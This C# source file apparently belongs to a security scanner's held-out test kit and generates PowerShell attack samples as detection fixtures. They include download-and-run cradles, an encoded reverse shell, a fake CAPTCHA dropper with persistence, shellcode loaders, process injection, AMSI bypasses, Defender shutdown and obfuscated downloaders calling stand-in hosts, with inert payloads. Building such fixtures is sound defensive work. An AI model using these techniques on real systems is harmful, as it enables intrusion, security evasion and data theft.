using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>PowerShell that fetches code or a program and runs it.</summary>
public sealed class PowerShellCradles : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("update.ps1", Dos("""
            $ErrorActionPreference = 'SilentlyContinue'
            [Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
            IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.15:8080/a')
            """));
        yield return ("captcha.ps1", Dos("""
            # Verification step 2 of 3
            $dest = Join-Path $env:LOCALAPPDATA 'VerifyHuman'
            New-Item -ItemType Directory -Force -Path $dest | Out-Null
            Invoke-WebRequest -Uri 'https://human-check.click.example/f/payload.zip' -OutFile "$dest\p.zip" -UseBasicParsing
            Expand-Archive -Path "$dest\p.zip" -DestinationPath $dest -Force
            Start-Process -FilePath "$dest\Setup.exe" -WindowStyle Hidden
            Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'VerifyHuman' -Value "$dest\Setup.exe"
            Remove-Item "$dest\p.zip"
            Clear-Clipboard
            """));
        yield return ("start.cmd.txt", Dos(Fill("""
            powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand @@1
            """, Encoded("$c=New-Object System.Net.Sockets.TCPClient('198.51.100.200',4443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$o=([Text.Encoding]::ASCII).GetBytes($r+'PS '+(pwd).Path+'> ');$s.Write($o,0,$o.Length);$s.Flush()};$c.Close()"))));
        yield return ("Get-PrinterStatus.ps1", Dos("""
            <#
              .SYNOPSIS
              Reports the state of the office printers.
            #>
            param([string]$Queue = 'Office')
            function Get-Text($u) {
                $r = [Activator]::CreateInstance([type]::GetTypeFromProgID(('Msxml2','XMLHTTP' -join '.')))
                $r.open('GET', $u, $false); $r.send(); $r.responseText
            }
            $parts = 'h','t','t','p','s','://','print-status','.example','/','q','.txt'
            $state = Get-Text (-join $parts)
            $run = Get-Command ('In*-Exp*ion' -replace 'zz','')
            & $run $state
            & ([scriptblock]::Create((Get-Text ((-join $parts) + '?2'))))
            Write-Output "Printer queue ${Queue}: ready"
            """));
    }
}

/// <summary>PowerShell that loads a program or native code into memory.</summary>
public sealed class PowerShellLoaders : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("loader.ps1", Dos(Fill("""
            $bytes = [System.Convert]::FromBase64String("@@1")
            $asm = [System.Reflection.Assembly]::Load($bytes)
            $type = $asm.GetType("Client.Program")
            $method = $type.GetMethod("Main")
            $method.Invoke($null, (, [string[]] @("198.51.100.77", "443")))
            """, Convert.ToBase64String(InertFiles.Pe(2048)))));
        yield return ("beacon.ps1", Dos(Fill("""
            Set-StrictMode -Version 2
            function func_get_proc_address {
                Param ($var_module, $var_procedure)
                $var_unsafe_native_methods = ([AppDomain]::CurrentDomain.GetAssemblies() | Where-Object { $_.GlobalAssemblyCache -And $_.Location.Split('\\')[-1].Equals('System.dll') }).GetType('Microsoft.Win32.UnsafeNativeMethods')
                return $var_unsafe_native_methods.GetMethod('GetProcAddress', [Type[]] @('IntPtr', 'string')).Invoke($null, @($var_module, $var_procedure))
            }
            [Byte[]]$var_code = [System.Convert]::FromBase64String('@@1')
            for ($x = 0; $x -lt $var_code.Count; $x++) { $var_code[$x] = $var_code[$x] -bxor 35 }
            $var_va = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer((func_get_proc_address kernel32.dll VirtualAlloc), (func_get_delegate_type @([IntPtr], [UInt32], [UInt32], [UInt32]) ([IntPtr])))
            $var_buffer = $var_va.Invoke([IntPtr]::Zero, $var_code.Length, 0x3000, 0x40)
            [System.Runtime.InteropServices.Marshal]::Copy($var_code, 0, $var_buffer, $var_code.length)
            $var_runme = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($var_buffer, (func_get_delegate_type @([IntPtr]) ([Void])))
            $var_runme.Invoke([IntPtr]::Zero)
            """, XorBase64("this is text in the place of native code, and it is as long as a short stage would be: " + new string('n', 300), 35))));
        yield return ("inject.ps1", Dos("""
            $code = @"
            using System;
            using System.Runtime.InteropServices;
            public class K {
                [DllImport("kernel32")] public static extern IntPtr OpenProcess(int a, bool b, int c);
                [DllImport("kernel32")] public static extern IntPtr VirtualAllocEx(IntPtr h, IntPtr a, uint s, uint t, uint p);
                [DllImport("kernel32")] public static extern bool WriteProcessMemory(IntPtr h, IntPtr a, byte[] b, int s, out IntPtr w);
                [DllImport("kernel32")] public static extern IntPtr CreateRemoteThread(IntPtr h, IntPtr a, uint s, IntPtr e, IntPtr p, uint f, IntPtr i);
            }
            "@
            Add-Type $code
            [Byte[]] $buf = 0xc3,0x90,0x90,0x90,0xc3,0x90,0x90,0x90,0xc3
            $target = (Get-Process explorer).Id
            $h = [K]::OpenProcess(0x001F0FFF, $false, $target)
            $a = [K]::VirtualAllocEx($h, [IntPtr]::Zero, 0x1000, 0x3000, 0x40)
            [IntPtr]$n = 0
            [K]::WriteProcessMemory($h, $a, $buf, $buf.Length, [ref]$n)
            [K]::CreateRemoteThread($h, [IntPtr]::Zero, 0, $a, [IntPtr]::Zero, 0, [IntPtr]::Zero)
            """));
        yield return ("Sync-Profile.ps1", Dos(Fill("""
            # keeps the roaming profile tidy
            $pic = "@@1"
            $raw = New-Object byte[] ($pic.Length / 2)
            for ($i = 0; $i -lt $pic.Length; $i += 2) { $raw[$i / 2] = [byte]('0x' + $pic.Substring($i, 2)) -bxor 0x5A }
            $ms = New-Object IO.MemoryStream (, $raw)
            $gz = New-Object IO.Compression.GZipStream ($ms, [IO.Compression.CompressionMode]::Decompress)
            $out = New-Object IO.MemoryStream
            $gz.CopyTo($out)
            $loader = [AppDomain]::CurrentDomain.GetType().GetMethods() | ? { $_.Name -eq ('Lo' + 'ad') -and $_.GetParameters()[0].ParameterType.Name -eq 'Byte[]' } | select -First 1
            $unit = $loader.Invoke([AppDomain]::CurrentDomain, @(, $out.ToArray()))
            $unit.EntryPoint.Invoke($null, @(, [string[]]@()))
            """, Convert.ToHexString([.. InertFiles.Gzip(InertFiles.Pe(4096)).Select(value => (byte)(value ^ 0x5A))]))));
    }
}

/// <summary>PowerShell that blinds or switches off what protects the machine before it does the rest.</summary>
public sealed class PowerShellBlinding : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("a.ps1", Dos("""
            [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
            iex (iwr -UseBasicParsing http://203.0.113.88/stage2.ps1).Content
            """));
        yield return ("prep.ps1", Dos("""
            if ($env:COMPUTERNAME -ne 'INERT-NO-SUCH-HOST') { exit }
            Add-MpPreference -ExclusionPath 'C:\' -Force
            Add-MpPreference -ExclusionProcess 'powershell.exe','rundll32.exe'
            Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true -DisableScriptScanning $true -MAPSReporting 0 -SubmitSamplesConsent 2
            Set-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiSpyware -Value 1
            Stop-Service WinDefend -Force; sc.exe config WinDefend start= disabled
            netsh advfirewall set allprofiles state off
            (New-Object Net.WebClient).DownloadFile('http://192.0.2.130/x.exe', 'C:\Users\Public\x.exe')
            Start-Process 'C:\Users\Public\x.exe'
            """));
        yield return ("patch.ps1", Dos("""
            $w = @'
            using System; using System.Runtime.InteropServices;
            public class W32 {
              [DllImport("kernel32")] public static extern IntPtr GetProcAddress(IntPtr m, string n);
              [DllImport("kernel32")] public static extern IntPtr LoadLibrary(string n);
              [DllImport("kernel32")] public static extern bool VirtualProtect(IntPtr a, UIntPtr s, uint p, out uint o);
            }
            '@
            Add-Type $w
            $lib = [W32]::LoadLibrary("am" + "si.dll")
            $adr = [W32]::GetProcAddress($lib, "Amsi" + "Scan" + "Buffer")
            $p = 0
            [W32]::VirtualProtect($adr, [uint32]5, 0x40, [ref]$p)
            $patch = [Byte[]] (0x00, 0x00, 0x00, 0x00, 0x00, 0x00)
            [System.Runtime.InteropServices.Marshal]::Copy($patch, 0, $adr, 6)
            iex ((New-Object Net.WebClient).DownloadString("https://files.admin-tools.example/run"))
            """));
        yield return ("logon.ps1", Dos("""
            $a = 'System.Man{0}ement.Auto{1}' -f 'ag', 'mation'
            $b = [char]65 + [char]109 + [char]115 + [char]105 + 'Utils'
            $t = [AppDomain]::CurrentDomain.GetAssemblies() | % { $_.GetType("$a.$b") } | ? { $_ }
            $t.GetFields(40) | ? { $_.Name -like ('*i' + 'nitF*') } | % { $_.SetValue($null, !$false) }
            $g = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('U2V0LU1wUHJlZmVyZW5jZSAtRGlzYWJsZVJlYWx0aW1lTW9uaXRvcmluZyAkdHJ1ZQ=='))
            &(gcm i*x) $g
            &(gcm i*x) ([Net.WebClient]::new().DownloadString(('ht{0}://{1}/l' -f 'tp', '198.51.100.61')))
            """));
    }
}

/// <summary>PowerShell whose text hides what it does behind the language's own tricks.</summary>
public sealed class PowerShellDisguised : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("doc.ps1", Dos("""
            &("{1}{0}"-f'X','IE') (&("{2}{0}{1}"-f '-Obj','ect','New') ("{0}{2}{1}"-f 'Net.','nt','WebClie')).("{3}{1}{2}{0}"-f'ing','nload','Str','Dow').Invoke(("{1}{0}{2}" -f '://203.0.113','http','.14/p'))
            """));
        yield return ("o.ps1", Dos(Fill("""
            $x = @@1
            -join ($x | % { [char]($_ -bxor 19) }) | & ( $PSHome[4] + $PSHome[30] + 'x' )
            """, string.Join(",", "(New-Object System.Net.WebClient).DownloadFile('http://198.51.100.33/w.exe',\"$env:TEMP\\w.exe\");Start-Process \"$env:TEMP\\w.exe\"".Select(letter => letter ^ 19)))));
        yield return ("p.ps1", Dos(Fill("""
            s`eT-v`Ar`iAb`Le ('q'+'7') ("@@1")
            $r = [rEgEX]::mAtcHes( $q7 , '.' , 'rIGHTtoLEFt' ) | fOReaCh-oBJecT { $_.vALue }
            .( $eNv:CoMSpEC[4,24,25] -JOin '' ) ( $r -jOIN '' )
            """, Backwards("$u='http://192.0.2.201/gate.php';$d=(gwmi Win32_ComputerSystem|out-string);(New-Object Net.WebClient).UploadString($u,$d)|iex"))));
        yield return ("Backup-Home.ps1", Dos(Fill("""
            function ConvertFrom-Setting([string]$s, [int]$k) { -join ($s -split '-' | % { [char]([int]$_ - $k) }) }
            $setting = @{
                Source  = '@@1'
                Action  = '@@2'
                Offset  = 11
            }
            $from = ConvertFrom-Setting $setting.Source $setting.Offset
            $what = ConvertFrom-Setting $setting.Action $setting.Offset
            $client = New-Object -TypeName (ConvertFrom-Setting '@@3' 11)
            Set-Alias bk $what
            bk $client.DownloadString($from)
            """, Codes("https://backup-home.example/v1/settings", 11, "-"), Codes("Invoke-Expression", 11, "-"), Codes("Net.WebClient", 11, "-"))));
    }
}
